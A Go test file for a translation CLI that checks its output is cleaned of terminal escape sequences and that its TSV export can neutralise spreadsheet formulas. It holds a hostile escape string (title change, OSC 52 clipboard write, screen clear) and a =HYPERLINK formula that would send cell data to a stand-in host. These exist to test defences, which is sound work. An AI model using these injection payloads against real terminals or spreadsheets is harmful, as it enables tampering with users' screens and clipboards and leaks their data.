package main

import (
	"bytes"
	"encoding/json"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/trad-project/trad/segments"
)

// evil holds what a hostile file tries to send to the terminal: a title
// change, a clipboard write (OSC 52), a screen clear through C1 CSI, a bell
// and a carriage return that would hide the start of a line.
const evil = "\x1b]0;pwned\x07\x1b]52;c;ZWNobyBoaQ==\x1b\\\u009b2J\a\rX"

// assertNoControls fails when out holds a control character other than
// tab and newline.
func assertNoControls(t *testing.T, what, out string) {
	t.Helper()
	for _, r := range out {
		if (r < 0x20 && r != '\t' && r != '\n') || (r >= 0x7f && r <= 0x9f) {
			t.Errorf("%s carries control %U: %q", what, r, out)
			return
		}
	}
}

// runAll runs the real command line (run, as main does) with args.
func runAll(args ...string) (int, string, string) {
	var out, errb bytes.Buffer
	code := run(args, strings.NewReader(""), &out, &errb)
	return code, out.String(), errb.String()
}

func TestErrorFileNameHasNoEscapes(t *testing.T) {
	name := filepath.Join(t.TempDir(), "article"+evil+".md")
	code, out, errs := runAll("segment", name)
	if code == 0 || !strings.Contains(errs, "article") {
		t.Fatalf("segment of a missing file: exit %d, %q", code, errs)
	}
	assertNoControls(t, "stderr", errs)
	assertNoControls(t, "stdout", out)
}

func TestExportToStdoutHasNoEscapes(t *testing.T) {
	_, project := makeProject(t, "article.fr.md")
	op, err := segments.OpenProject(project, segments.OpenOptions{})
	doc := op.Doc
	if err != nil {
		t.Fatal(err)
	}
	// A project file written by another tool (or an older trad) with raw
	// escapes in a target and a note.
	doc.SetTarget(0, "Digital"+evil+" sovereignty", segments.StatusTranslated, time.Now())
	doc.Segments[0].Note = "note" + evil
	if err := segments.Save(project, doc); err != nil {
		t.Fatal(err)
	}
	for _, f := range []string{"tmx", "xliff", "md", "tsv", "target"} {
		code, out, errs := runAll("export", project, "--format", f, "-o", "-")
		if code != 0 {
			t.Fatalf("export %s: exit %d: %s", f, code, errs)
		}
		if !strings.Contains(out, "Digital") {
			t.Errorf("export %s lost the target:\n%s", f, out)
		}
		assertNoControls(t, "export "+f, out)
		assertNoControls(t, "export "+f+" stderr", errs)
	}
}

func TestGlossaryOutputHasNoEscapes(t *testing.T) {
	isolateGlossaries(t)
	dir := t.TempDir()
	terms := writeGlossaryFile(t, dir, "g"+evil+".tsv", "fr\ten\tdomain\tpos\tnote\n"+
		"réseau"+evil+"\tnetwork"+evil+"\ttech"+evil+"\tnoun\tnote"+evil+"\n")
	for _, args := range [][]string{
		{"glossary", "list", "--no-builtin", "-g", terms},
		{"glossary", "list", "--no-builtin", "--json", "-g", terms},
		{"glossary", "lookup", "--no-builtin", "-g", terms, "réseau"},
		{"glossary", "lookup", "--no-builtin", "--json", "-g", terms, "réseau"},
		{"glossary", "check", terms},
	} {
		code, out, errs := runAll(args...)
		if code != 0 && code != 1 {
			t.Errorf("%v: exit %d: %s", args, code, errs)
		}
		assertNoControls(t, strings.Join(args[:2], " ")+" stdout", out)
		assertNoControls(t, strings.Join(args[:2], " ")+" stderr", errs)
	}
}

// TestJSONOutputStaysValid checks that cleaning the output never breaks
// JSON: encoding/json escapes C0 controls itself (\u001b passes as text)
// and a raw C1 control inside a string is removed, not mangled.
func TestJSONOutputStaysValid(t *testing.T) {
	data, err := json.Marshal(map[string]string{"t": "a" + evil + "\u0085b"})
	if err != nil {
		t.Fatal(err)
	}
	var out bytes.Buffer
	s := (&streams{Out: &out, Err: &out}).safe()
	if _, err := s.Out.Write(data); err != nil {
		t.Fatal(err)
	}
	if !json.Valid(out.Bytes()) || !strings.Contains(out.String(), `\u001b]0;pwned\u0007`) {
		t.Errorf("cleaned JSON %q from %q", out.String(), data)
	}
	assertNoControls(t, "JSON", out.String())
}

func TestEditorGetsRawStdout(t *testing.T) {
	f, err := os.CreateTemp(t.TempDir(), "out")
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	s := (&streams{Out: f, Err: f}).safe()
	if rawOut(s.Out) != f {
		t.Error("the editor would not get the terminal's *os.File")
	}
}

func TestSegmentRefusesDeviceAndHonoursMaxSize(t *testing.T) {
	if _, err := os.Stat("/dev/zero"); err == nil {
		code, _, errs := runAll("segment", "/dev/zero")
		if code == 0 || !strings.Contains(errs, "/dev/zero: not a regular file (a device)") {
			t.Errorf("segment /dev/zero: exit %d, %q", code, errs)
		}
	}
	p := filepath.Join(t.TempDir(), "a.txt")
	if err := os.WriteFile(p, []byte(strings.Repeat("Une phrase. ", 200)), 0o644); err != nil {
		t.Fatal(err)
	}
	code, _, errs := runAll("segment", "--max-size", "1KiB", p)
	if code == 0 || !strings.Contains(errs, "larger than 1KiB") || !strings.Contains(errs, "--max-size") {
		t.Errorf("2,400 bytes with --max-size 1KiB: exit %d, %q", code, errs)
	}
	for _, size := range []string{"4KiB", "unlimited", "1m"} {
		if code, _, errs := runAll("segment", "--max-size", size, p); code != 0 {
			t.Errorf("--max-size %s: exit %d, %q", size, code, errs)
		}
	}
	if code, _, errs := runAll("segment", "--max-size", "lots", p); code == 0 || !strings.Contains(errs, "not a size") {
		t.Errorf("--max-size lots: exit %d, %q", code, errs)
	}
	if code, _, errs := runAll("export", "--max-size", "1KiB", "--format", "tsv", p); code == 0 || !strings.Contains(errs, "larger than 1KiB") {
		t.Errorf("export --max-size 1KiB: exit %d, %q", code, errs)
	}
}

func TestExportTSVSafe(t *testing.T) {
	_, project := makeProject(t, "article.fr.md")
	op, err := segments.OpenProject(project, segments.OpenOptions{})
	doc := op.Doc
	if err != nil {
		t.Fatal(err)
	}
	doc.SetTarget(0, `=HYPERLINK("http://x.example/?"&A1)`, segments.StatusTranslated, time.Now())
	if err := segments.Save(project, doc); err != nil {
		t.Fatal(err)
	}
	_, plain, _ := runAll("export", project, "--format", "tsv")
	_, safe, _ := runAll("export", project, "--format", "tsv", "--tsv-safe")
	if !strings.Contains(plain, "\t=HYPERLINK(") || !strings.Contains(safe, "\t'=HYPERLINK(") {
		t.Errorf("default:\n%s\n--tsv-safe:\n%s", plain, safe)
	}
}
